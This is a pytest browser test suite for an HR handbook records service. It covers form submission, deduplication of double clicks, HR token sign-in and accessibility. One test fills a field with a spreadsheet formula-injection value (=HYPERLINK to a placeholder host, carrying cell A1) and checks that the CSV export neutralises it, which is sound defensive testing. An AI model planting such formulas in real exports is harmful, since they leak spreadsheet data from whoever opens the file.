"""In Chromium: the shipped acknowledgement and form pages send to the service, and HR finds
the records in the CSV export. The app ``handbook serve`` runs, on a real port, so the pages are
same-origin."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import axe_violations
from tests.quiz_driver import (
    EMPLOYEE,
    answer_by_click,
    fill_person,
    key,
    presented,
    quiz_data,
    settled_axe_violations,
)
from tests.records_kit import TOKEN, Service, project_at, quiz_part
from tests.test_checklists_browser import tab_to

pytestmark = pytest.mark.browser

FORM_SUBMIT = "[data-hb-form] button[type=submit]"


@pytest.fixture(scope="module")
def service(engine_site: Path, tmp_path_factory: pytest.TempPathFactory):
    db = tmp_path_factory.mktemp("browser") / "records.sqlite"
    app = Service(engine_site.parent, engine_site, db)
    app.listen()
    yield app
    app.close()


def exported(service: Service, kind: str) -> list[dict[str, str]]:
    status, _, text = service.get(f"/api/export/{kind}.csv", service.auth())
    assert status == 200
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_an_acknowledgement_reaches_the_service_and_the_export(service, engine_site, page):
    project = project_at(engine_site.parent)
    policy = project.policy("admin-policy-6")
    quiz_id = policy.acknowledgement.quiz_for("employee", {q.id: q.audience for q in project.quizzes})
    quiz = quiz_part(project, quiz_id)
    passed = {key: quiz[key] for key in ("questions", "answers", "score", "pass_mark", "passed", "attempt")}
    page.goto(f"{service.address}/acknowledge/admin-policy-6.html")
    # A pass of the self-check on this browser, kept under the employee id of the person who sent
    # it, as quiz.js keeps it (taking the quiz is tested elsewhere).
    key = f"handbook.quiz.{quiz_id}@{quiz['quiz']['version']}"
    value = json.dumps({"attempts": 1, "passes": {"B-ACK-1": {**passed, "employee_id": "B-ACK-1"}}})
    page.evaluate("([key, value]) => localStorage.setItem(key, value)", [key, value])
    page.reload()
    page.fill("#ack-name", "Zoë Browser")
    page.fill("#ack-employee-id", "B-ACK-1")
    page.fill("#ack-department", "Parks and Recreation")
    page.select_option("#ack-role", "employee")
    page.check("#ack-agree")
    page.fill("#ack-signature", "Zoë Browser")
    page.dblclick("[data-hb-ack-form] button[type=submit]")  # one submission, however many clicks
    status = page.locator("[data-hb-record-status]")
    status.filter(has_text="Recorded by the records service").wait_for()
    assert axe_violations(page) == []
    rows = [row for row in exported(service, "acknowledgements") if row["employee_id"] == "B-ACK-1"]
    assert len(rows) == 1
    row = rows[0]
    assert (row["name"], row["signature"]) == ("Zoë Browser", "Zoë Browser")
    assert row["policy_hash"] == policy.content_hash()
    assert (row["quiz_id"], row["score"], row["passed"], row["source"]) == (quiz_id, "100", "yes", "api")
    assert row["record_id"] in status.inner_text()
    assert page.outside_requests == []


def fill_violation_report(page, employee_id: str) -> None:
    page.fill("#p-employee-id", employee_id)
    page.fill("#p-name", "Form Browser")
    page.fill("#p-department", "Library")
    page.select_option("#p-role", "employee")
    page.fill("#f-where", "Facebook, Library page")
    page.fill("#f-seen-on", "2026-01-04")
    page.fill("#f-description", "=HYPERLINK(\"http://x?\"&A1,\"y\") posted as a comment")
    page.fill("#f-signature", "Form Browser")
    page.fill("#f-signed-on", "2026-01-05")


def send_and_wait(page, button: str) -> str:
    """Click ``button`` and wait for the service's answer; returns the status shown."""
    page.click(button)
    return answered(page)


def answered(page) -> str:
    page.wait_for_function("""() => {
        const status = document.querySelector('[data-hb-record-status]:not(:empty)');
        return status && status.textContent !== 'Sending…';
    }""")
    return page.locator("[data-hb-record-status]").inner_text()


def test_a_form_reaches_the_service_and_the_export(service, page):
    page.goto(f"{service.address}/forms/violation-report.html")
    fill_violation_report(page, "B-FORM-1")
    assert send_and_wait(page, FORM_SUBMIT).startswith("Recorded by the records service")
    assert axe_violations(page) == []  # as the user left it: the focused Submit button included
    rows = {row["field_id"]: row for row in exported(service, "forms") if row["employee_id"] == "B-FORM-1"}
    assert rows["where"]["answer"] == "Facebook, Library page"
    assert rows["description"]["answer"] == "'=HYPERLINK(\"http://x?\"&A1,\"y\") posted as a comment"
    assert rows["signature"]["form_id"] == "violation-report"
    assert rows["signature"]["answer"] == "Form Browser"
    assert page.outside_requests == []


def test_double_clicking_submit_stores_one_form_and_its_receipt_carries_that_id(service, page):
    """Issue 11: one submission is one record, whatever the person clicks; only a changed answer
    makes a new one."""
    page.goto(f"{service.address}/forms/violation-report.html")
    fill_violation_report(page, "B-DOUBLE-1")
    page.dblclick(FORM_SUBMIT)
    first = answered(page)
    assert first.startswith("Recorded by the records service")
    assert send_and_wait(page, FORM_SUBMIT) == first  # once more, after it was stored: the same record
    with page.expect_download() as info:
        page.click("[data-hb-download='json']")
    receipt = json.loads(Path(info.value.path()).read_text(encoding="utf-8"))
    stored = {row["record_id"] for row in exported(service, "forms") if row["employee_id"] == "B-DOUBLE-1"}
    assert stored == {receipt["id"]} and receipt["id"] in first
    page.fill("#f-where", "Instagram, Library page")  # a changed answer is a new submission
    second = send_and_wait(page, FORM_SUBMIT)
    assert second.startswith("Recorded by the records service") and receipt["id"] not in second
    rows = [row for row in exported(service, "forms") if row["employee_id"] == "B-DOUBLE-1"]
    assert len({row["record_id"] for row in rows}) == 2


def test_double_clicking_send_stores_one_quiz_attempt(service, page):
    page.goto(f"{service.address}/{EMPLOYEE}")
    data = quiz_data(page)
    answer_by_click(page, {qid: key(data, qid) for qid, _ in presented(page)})
    fill_person(page, "[data-hb-record-form]", employee_id="B-QUIZ-1", name="Quiz B", department="Parks")
    page.dblclick("[data-hb-record-form] button[type=submit]")
    status = answered(page)
    rows = [row for row in exported(service, "quiz-attempts") if row["employee_id"] == "B-QUIZ-1"]
    assert len(rows) == 1 and rows[0]["record_id"] in status
    assert (rows[0]["score"], rows[0]["passed"]) == ("100", "yes")
    assert settled_axe_violations(page) == []


def test_hr_signs_in_by_keyboard_and_the_report_page_passes_axe(service, engine_site, page, tmp_path):
    page.goto(f"{service.address}/hr")
    assert axe_violations(page) == []
    tab_to(page, "#token")  # past the header's way back to the handbook
    page.keyboard.type("not the token")
    page.keyboard.press("Enter")
    page.get_by_role("alert").filter(has_text="not right").wait_for()
    assert page.locator("#token").get_attribute("aria-invalid") == "true"
    assert axe_violations(page) == []
    page.fill("#token", TOKEN)
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Records stored").wait_for()
    assert TOKEN not in page.url and "token" not in page.url
    cookies = {c["name"]: c for c in page.context.cookies()}
    assert cookies["handbook_hr"]["httpOnly"] and cookies["handbook_hr"]["value"] != TOKEN
    assert axe_violations(page) == []
    assert page.evaluate("document.cookie") == ""


def test_the_html_report_passes_axe(service, engine_site, page, tmp_path):
    from click.testing import CliRunner

    from handbook.cli import main

    roster = Path(__file__).resolve().parent / "fixtures" / "roster.csv"
    out = tmp_path / "report.html"
    args = ["report", str(engine_site.parent), "--roster", str(roster), "--html", str(out),
            "--out", str(tmp_path / "status.csv"), "--db", str(service.db)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1 and "roster.csv:8: unknown role 'mayor'" in result.stderr  # bad rows: exit 1
    page.goto(out.as_uri())
    page.get_by_role("img", name="Requirements complete, by department").wait_for()
    assert axe_violations(page) == []
